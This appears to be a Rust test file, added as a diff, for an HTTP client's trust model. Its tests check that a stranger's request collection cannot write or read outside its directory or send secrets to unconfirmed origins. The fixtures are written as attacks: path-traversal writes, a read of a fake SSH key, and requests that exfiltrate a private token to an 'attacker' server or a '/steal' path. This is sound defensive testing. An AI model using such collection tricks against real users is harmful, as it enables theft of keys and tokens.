@@ -1,0 +1,390 @@
+//! Files from strangers: a collection someone else wrote (a cloned
+//! repository, an import, a customer's file) writes, reads and sends
+//! nothing the user did not choose — the trust model's table in the
+//! README, row by row, each defect reproduced as an attacker would.
+
+use crate::common;
+
+use common::{RawServer, Reply, Run, apiscope_with};
+use std::path::Path;
+
+/// Every request answered 200 with a small JSON body; what arrives is kept.
+fn echo() -> RawServer {
+    RawServer::start(|req| {
+        let head = String::from_utf8_lossy(req);
+        let body = if head.starts_with("POST /login") || head.starts_with("GET /login") {
+            format!(
+                r#"{{"token":"tok_FAKE_chained_token_77","next":"http://127.0.0.1:{}"}}"#,
+                9
+            )
+        } else {
+            r#"{"ok":true}"#.to_owned()
+        };
+        Reply::Bytes(
+            format!(
+                "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+                body.len()
+            )
+            .into_bytes(),
+        )
+    })
+}
+
+/// A collection directory (`col/` in a temporary directory, so `..` is
+/// somewhere) holding `api.http` with `text`, `{{host}}` the server.
+fn collection(text: &str, host: &str) -> (tempfile::TempDir, std::path::PathBuf) {
+    let top = tempfile::tempdir().unwrap();
+    let col = top.path().join("col");
+    std::fs::create_dir_all(&col).unwrap();
+    std::fs::write(col.join("api.http"), text).unwrap();
+    std::fs::write(
+        col.join("http-client.env.json"),
+        format!(r#"{{"dev": {{"host": "{host}"}}}}"#),
+    )
+    .unwrap();
+    std::fs::write(
+        col.join("http-client.private.env.json"),
+        r#"{"dev": {"token": "tok_FAKE_private_env_55"}}"#,
+    )
+    .unwrap();
+    (top, col)
+}
+
+fn run(data: &Path, col: &Path, args: &[&str]) -> Run {
+    apiscope_with(data, col, args, b"")
+}
+
+// ── Writes ────────────────────────────────────────────────────────────
+
+#[test]
+fn an_untrusted_collection_writes_nothing_and_a_trusted_one_only_inside() {
+    let server = echo();
+    let (top, col) = collection(
+        "# @name a\nGET {{host}}/a\n\n>>! ../../escaped-a.txt\n\n###\n# @name b\nGET {{host}}/b\n\n>> ./out/b.json\n\n###\n# @name c\nGET {{host}}/c\n\n>> ./link.json\n\n###\n# @name d\nGET {{host}}/d\n\n>> ./d.json\n\n###\n# @name e\nGET {{host}}/e\n\n>> /tmp/apiscope-absolute-FAKE.txt\n",
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(top.path().join("outside.txt"), col.join("link.json")).unwrap();
+    // Untrusted: nothing written, each one said.
+    for name in ["a", "d"] {
+        let out = run(
+            data.path(),
+            &col,
+            &["send", &format!("api.http#{name}"), "--env", "dev"],
+        );
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        assert!(
+            out.stderr
+                .contains("not written: the collection is not trusted"),
+            "{}",
+            out.stderr
+        );
+    }
+    assert!(!col.join("d.json").exists());
+    // Trusted for this run: inside the directory only.
+    for (name, why) in [
+        ("a", "outside the collection directory"),
+        ("b", "its directory does not exist"),
+        ("c", "it is a symlink"),
+        ("e", "outside the collection directory"),
+    ] {
+        let out = run(
+            data.path(),
+            &col,
+            &[
+                "send",
+                &format!("api.http#{name}"),
+                "--env",
+                "dev",
+                "--trust",
+            ],
+        );
+        assert_eq!(out.code, 0, "{name}: {}", out.stderr);
+        assert!(out.stderr.contains(why), "{name}: {}", out.stderr);
+    }
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#d", "--env", "dev", "--trust"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(
+        std::fs::read_to_string(col.join("d.json")).unwrap(),
+        r#"{"ok":true}"#
+    );
+    for p in [
+        top.path().parent().unwrap().join("escaped-a.txt"),
+        top.path().join("escaped-a.txt"),
+        col.join("out"),
+        top.path().join("outside.txt"),
+        Path::new("/tmp/apiscope-absolute-FAKE.txt").to_path_buf(),
+    ] {
+        assert!(!p.exists(), "{} was written", p.display());
+    }
+}
+
+#[test]
+fn a_dependency_sent_automatically_writes_no_file() {
+    let server = echo();
+    let (_top, col) = collection(
+        "# @name login\nGET {{host}}/login\n\n>> ./login.json\n\n###\n# @name me\nGET {{host}}/me?t={{login.response.body.$.token}}\n",
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#me", "--env", "dev", "--trust", "--yes"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stderr.contains("only a request you pick writes a file"),
+        "{}",
+        out.stderr
+    );
+    assert!(!col.join("login.json").exists());
+    // Picked, it writes.
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#login", "--env", "dev", "--trust", "--yes"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(col.join("login.json").exists());
+}
+
+// ── Reads ─────────────────────────────────────────────────────────────
+
+#[test]
+fn reads_stay_inside_the_collection_and_on_regular_files() {
+    let server = echo();
+    let (top, col) = collection("", &server.base);
+    std::fs::write(top.path().join("id_rsa_FAKE"), "-----FAKE KEY-----").unwrap();
+    std::fs::write(col.join("body.json"), r#"{"inside":true}"#).unwrap();
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink(top.path().join("id_rsa_FAKE"), col.join("inner-link")).unwrap();
+        let _ = std::process::Command::new("mkfifo")
+            .arg(col.join("fifo"))
+            .status();
+        std::os::unix::fs::symlink("/dev/zero", col.join("zero")).unwrap();
+    }
+    let data = tempfile::tempdir().unwrap();
+    let cases = [
+        (
+            "POST {{host}}/x\n\n< ../id_rsa_FAKE\n",
+            "outside the collection directory",
+        ),
+        (
+            "POST {{host}}/x\n\n< ./inner-link\n",
+            "outside the collection directory",
+        ),
+        ("POST {{host}}/x\n\n< ./fifo\n", "not a regular file"),
+        (
+            "POST {{host}}/x\n\n< ./zero\n",
+            "outside the collection directory",
+        ),
+        (
+            "POST {{host}}/x\nContent-Type: multipart/form-data; boundary=B\n\n--B\nContent-Disposition: form-data; name=\"f\"; filename=\"k\"\n\n< ../id_rsa_FAKE\n--B--\n",
+            "outside the collection directory",
+        ),
+    ];
+    for (text, why) in cases {
+        std::fs::write(col.join("api.http"), text).unwrap();
+        let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+        assert_eq!(out.code, 2, "{text}: {}", out.stderr);
+        assert!(out.stderr.contains(why), "{text}: {}", out.stderr);
+        assert_eq!(out.stderr.trim().lines().count(), 1, "{}", out.stderr);
+    }
+    assert!(server.requests().is_empty(), "nothing may be sent");
+    // Inside: read. Outside, trusted and allowed: read too.
+    std::fs::write(col.join("api.http"), "POST {{host}}/x\n\n< ./body.json\n").unwrap();
+    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    std::fs::write(
+        col.join("api.http"),
+        "POST {{host}}/x\n\n< ../id_rsa_FAKE\n",
+    )
+    .unwrap();
+    let top_dir = top.path().display().to_string();
+    let out = run(
+        data.path(),
+        &col,
+        &[
+            "send",
+            "api.http",
+            "--env",
+            "dev",
+            "--trust",
+            "--allow-read",
+            &top_dir,
+        ],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(server.requests().len(), 2);
+    assert!(server.requests()[1].ends_with("-----FAKE KEY-----"));
+}
+
+#[cfg(unix)]
+#[test]
+fn an_env_file_that_is_a_device_or_a_fifo_is_one_line_not_a_hang() {
+    let (_top, col) = collection("GET {{host}}/x\n", "http://127.0.0.1:9");
+    std::fs::remove_file(col.join("http-client.private.env.json")).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", col.join(".env")).unwrap();
+    let data = tempfile::tempdir().unwrap();
+    let started = std::time::Instant::now();
+    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(
+        out.stderr.contains(".env: cannot read: not a regular file"),
+        "{}",
+        out.stderr
+    );
+    std::fs::remove_file(col.join(".env")).unwrap();
+    let _ = std::process::Command::new("mkfifo")
+        .arg(col.join(".env"))
+        .status();
+    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(out.stderr.contains("not a regular file"), "{}", out.stderr);
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+}
+
+// ── Origins ───────────────────────────────────────────────────────────
+
+#[test]
+fn secrets_go_to_no_origin_the_user_did_not_confirm() {
+    let server = echo();
+    let attacker = echo();
+    // `main` refers to `warmup`, which takes the private token to another
+    // origin: sent first, automatically, before this change.
+    let (_top, col) = collection(
+        &format!(
+            "# @name warmup\nGET {}/collect?t={{{{token}}}}\n\n###\n# @name main\nGET {{{{host}}}}/main?w={{{{warmup.response.body.$.ok}}}}\n",
+            attacker.base
+        ),
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#main", "--env", "dev"],
+    );
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    let line = out.stderr.trim();
+    assert_eq!(line.lines().count(), 1, "{line}");
+    assert!(
+        line.contains("refused: secret values would go to")
+            && line.contains(&format!(
+                "GET warmup → {} (sent first: another request uses its response) · carries http-client.private.env.json",
+                attacker.base
+            ))
+            && line.contains("nothing was sent"),
+        "{line}"
+    );
+    assert!(attacker.requests().is_empty() && server.requests().is_empty());
+    // --yes confirms the origins listed.
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#main", "--env", "dev", "--yes"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(attacker.requests().len(), 1);
+}
+
+#[test]
+fn an_origin_known_only_from_a_response_needs_a_person() {
+    let server = echo();
+    // The second request goes where the first one's answer says, with the
+    // private token: --yes does not cover that.
+    let (_top, col) = collection(
+        "# @name login\nGET {{host}}/login\n\n###\n# @name next\nGET {{login.response.body.$.next}}/steal\nX-Key: {{token}}\n",
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    let out = run(
+        data.path(),
+        &col,
+        &["send", "api.http#next", "--env", "dev", "--yes"],
+    );
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(
+        out.stderr
+            .contains("an origin known only from a response needs a yes on a terminal"),
+        "{}",
+        out.stderr
+    );
+    assert!(server.requests().is_empty(), "{:?}", server.requests());
+}
+
+#[test]
+fn replay_live_names_every_origin_and_secret_source_before_asking() {
+    let server = echo();
+    let (_top, col) = collection(
+        "# @name one\nGET {{host}}/one\nAuthorization: Bearer {{token}}\n\n###\n# @name two\nGET {{host}}/two\n",
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    let out = apiscope_with(
+        data.path(),
+        &col,
+        &["replay", "api.http", "--live", "--env", "dev"],
+        b"n\n",
+    );
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(
+        out.stderr.contains(&format!(
+            "GET one → {} · carries http-client.private.env.json · not confirmed yet",
+            server.base
+        )),
+        "{}",
+        out.stderr
+    );
+    assert!(server.requests().is_empty());
+}
+
+#[test]
+fn trust_remembers_a_directory_and_its_origins_and_forgets_it() {
+    let server = echo();
+    let (_top, col) = collection(
+        "# @name one\nGET {{host}}/one\nAuthorization: Bearer {{token}}\n\n>> ./one.json\n",
+        &server.base,
+    );
+    let data = tempfile::tempdir().unwrap();
+    // Without a terminal, trust asks for --yes to confirm the origins.
+    let out = run(data.path(), &col, &["trust"]);
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(out.stderr.contains(&server.base), "{}", out.stderr);
+    let out = run(data.path(), &col, &["trust", "--yes"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.contains("is trusted"), "{}", out.stdout);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        let mode = std::fs::metadata(data.path().join("trust.json"))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+    let out = run(data.path(), &col, &["trust", "--list"]);
+    assert!(
+        out.stdout
+            .contains(&format!("secrets may go to {}", server.base)),
+        "{}",
+        out.stdout
+    );
+    // Trusted: no question, and its >> writes inside it.
+    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(col.join("one.json").exists());
+    let out = run(data.path(), &col, &["trust", "--revoke"]);
+    assert!(out.stdout.contains("no longer trusted"), "{}", out.stdout);
+    std::fs::remove_file(col.join("one.json")).unwrap();
+    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    assert!(!col.join("one.json").exists());
+}
